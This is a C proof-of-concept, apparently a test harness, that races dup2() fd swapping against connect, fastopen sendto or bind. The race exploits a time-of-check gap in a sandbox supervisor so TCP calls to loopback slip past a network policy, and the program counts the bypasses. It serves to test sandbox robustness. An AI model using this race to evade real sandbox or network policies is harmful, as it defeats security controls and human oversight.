// An attacker against guarded policies: one thread connects (or sends with MSG_FASTOPEN, or binds) on fd
// number N to a TCP address the policy rejects, while another thread keeps dup2()ing an AF_UNIX socket and
// a fresh TCP socket onto N. A supervisor that looks at N, sees AF_UNIX and lets the kernel run the call
// (CONTINUE) gets the kernel to resolve N again, perhaps to the TCP socket: a real TCP connection past the
// policy. Usage: fdswap PORT TRIES connect|fastopen|bind
// Prints "bypasses N tries N unix U other O" (U: calls that ran on the AF_UNIX socket, O: other errnos).
#define _GNU_SOURCE
#include <arpa/inet.h>
#include <errno.h>
#include <pthread.h>
#include <stdatomic.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/socket.h>
#include <sys/un.h>
#include <unistd.h>

#define N 200

static atomic_int go, request, done_gen, stop;
static atomic_int tcp_fd = -1, unix_fd = -1;

static void *swapper(void *arg)
{
    (void)arg;
    int seen = 0;
    while (!atomic_load(&stop)) {
        int wanted = atomic_load(&request);
        if (wanted == seen) continue;
        seen = wanted;
        int t = atomic_load(&tcp_fd), u = atomic_load(&unix_fd);
        while (atomic_load(&go)) {
            dup2(u, N);
            dup2(t, N);
        }
        atomic_store(&done_gen, seen);
    }
    return NULL;
}

int main(int argc, char **argv)
{
    if (argc < 4) { fprintf(stderr, "usage: fdswap PORT TRIES connect|fastopen|bind\n"); return 2; }
    int port = atoi(argv[1]), tries = atoi(argv[2]);
    const char *mode = argv[3];
    struct sockaddr_in sin = { .sin_family = AF_INET, .sin_port = htons(port), .sin_addr.s_addr = htonl(INADDR_LOOPBACK) };
    pthread_t t;
    pthread_create(&t, NULL, swapper, NULL);
    int bypasses = 0, on_unix = 0, other = 0, last_other = 0;
    for (int i = 0; i < tries; i++) {
        int tcp = socket(AF_INET, SOCK_STREAM, 0), un = socket(AF_UNIX, SOCK_STREAM, 0);
        if (tcp < 0 || un < 0) { perror("socket"); return 1; }
        if (strcmp(mode, "bind") == 0) sin.sin_port = htons(port + 1 + i % 50);
        atomic_store(&tcp_fd, tcp);
        atomic_store(&unix_fd, un);
        dup2(un, N);
        atomic_store(&go, 1);
        atomic_store(&request, i + 1);
        // Let the swapper start before the call, so that the swap can land inside it.
        for (volatile int spin = 0; spin < (i % 64) * 20; spin++) {}
        int r;
        if (strcmp(mode, "fastopen") == 0) r = (int)sendto(N, "x", 1, MSG_FASTOPEN | MSG_NOSIGNAL, (struct sockaddr *)&sin, sizeof sin);
        else if (strcmp(mode, "bind") == 0) r = bind(N, (struct sockaddr *)&sin, sizeof sin);
        else r = connect(N, (struct sockaddr *)&sin, sizeof sin);
        int e = errno;
        atomic_store(&go, 0);
        while (atomic_load(&done_gen) != i + 1) {}
        if (r >= 0) {
            // Only the TCP socket can succeed with an AF_INET address: a Unix socket refuses it (EINVAL).
            struct sockaddr_in name;
            socklen_t len = sizeof name;
            int tcp_done = strcmp(mode, "bind") == 0 ? getsockname(tcp, (struct sockaddr *)&name, &len) == 0 && name.sin_port != 0
                                                     : getpeername(tcp, (struct sockaddr *)&name, &len) == 0;
            if (tcp_done) bypasses++;
            else other++;
        } else if (e == EINVAL || e == EOPNOTSUPP || e == EAFNOSUPPORT) on_unix++;
        else { other++; last_other = e; }
        close(N);
        close(tcp);
        close(un);
    }
    atomic_store(&stop, 1);
    pthread_join(t, NULL);
    printf("bypasses %d tries %d unix %d other %d errno %d\n", bypasses, tries, on_unix, other, last_other);
    return 0;
}
